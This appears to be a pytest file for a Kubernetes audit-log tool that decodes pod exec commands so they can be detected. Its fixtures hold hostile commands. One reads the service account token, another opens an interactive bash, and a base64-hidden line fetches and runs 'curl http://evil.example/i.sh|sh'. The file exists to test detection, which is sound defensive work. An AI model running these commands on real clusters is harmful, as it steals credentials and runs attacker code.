"""The view command."""

from typing import Any

import pytest

from ekswatch.audit.views import rows
from tests.audit.examples import attack, event

EXEC = attack("exec_kubectl", stage="ResponseStarted")
POD = "/api/v1/namespaces/web/pods/p"


def command(uri: str, **more: Any) -> dict[str, Any]:
    reference = {"resource": "pods", "subresource": "exec", "namespace": "web", "name": "p"}
    (row,) = rows(
        event({"verb": "get", "requestURI": uri, "objectRef": reference, **more}), "command"
    )
    return dict(row)


def test_a_real_exec() -> None:
    """Every command parameter, decoded, in order."""
    (row,) = rows(event(EXEC), "command")

    assert row == {
        "command.words": (
            "sh",
            "-c",
            "id; cat /var/run/secrets/kubernetes.io/serviceaccount/token",
        ),
        "command.text": "sh -c id; cat /var/run/secrets/kubernetes.io/serviceaccount/token",
        "command.decoded": ("sh -c id; cat /var/run/secrets/kubernetes.io/serviceaccount/token",),
        "command.word": "sh",
        "command.tty": False,
        "command.stdin": False,
        "command.container": "checkout",
    }


@pytest.mark.parametrize(
    ("name", "stage"),
    [("exec_spdy", "ResponseStarted"), ("attach_spdy", "ResponseStarted")],
)
def test_older_clients_create_instead_of_get(name: str, stage: str) -> None:
    """The subresource decides, not the verb."""
    assert len(rows(event(attack(name, verb="create", stage=stage)), "command")) == 1


@pytest.mark.parametrize(
    ("query", "words", "word"),
    [
        ("command=%2Fbin%2Fbash&command=-i", ("/bin/bash", "-i"), "bash"),
        ("command=a+b&x=1&command=c%2Bd&command=", ("a b", "c+d", ""), "a b"),
        ("command=%zz&command=%ff", ("%zz", "\ufffd"), "%zz"),
        ("command=/bin/", ("/bin/",), "bin"),
        ("commands=x&container=c", None, None),
        ("", None, None),
    ],
)
def test_words_are_decoded(query: str, words: tuple[str, ...] | None, word: str | None) -> None:
    """Percent and plus; a broken escape stays as it is."""
    row = command(f"{POD}/exec?{query}")

    assert row.get("command.words") == words
    assert row.get("command.word") == word


def test_the_words_may_be_in_the_body() -> None:
    """Sparse collectors record the options instead of the query."""
    body = {"command": ["id", 5], "tty": True, "stdin": True, "container": "c"}

    row = command(f"{POD}/exec", requestObject=body)

    assert row["command.words"] == ("id",)
    assert (row["command.tty"], row["command.stdin"]) == (True, True)
    assert row["command.container"] == "c"


@pytest.mark.parametrize(
    ("value", "expected"),
    [("true", True), ("1", True), ("", True), ("false", False), ("0", False), ("False", False)],
)
def test_switches_are_read_as_the_api_server_does(value: str, expected: bool) -> None:
    """Anything but false and 0 is true."""
    assert command(f"{POD}/exec?tty={value}")["command.tty"] is expected


@pytest.mark.parametrize(
    ("document", "count"),
    [
        ({"verb": "get", "requestURI": f"{POD}/exec?command=id"}, 1),
        ({"verb": "get", "requestURI": f"{POD}/log?command=id"}, 0),
        ({"verb": "get", "requestURI": "/other/exec?command=id"}, 0),
        (
            {"verb": "get", "objectRef": {"resource": "pods", "subresource": "portforward"}},
            0,
        ),
        ({"verb": "get", "objectRef": {"resource": "nodes", "subresource": "exec"}}, 0),
    ],
)
def test_only_exec_and_attach_have_a_row(document: dict[str, Any], count: int) -> None:
    """A record that lost its reference is judged by its path."""
    assert len(rows(event(document), "command")) == count


def test_a_command_is_read_below_its_encoding() -> None:
    """The rule sees the hidden command, and the host that it names."""
    row = command(
        f"{POD}/exec?command=sh&command=-c"
        "&command=echo%20Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlL2kuc2h8c2g%3D%7Cbase64%20-d%7Csh"
    )

    assert "curl http://evil.example/i.sh|sh" in row["command.decoded"]
    assert row["command.outside_hosts"] == ("evil.example",)
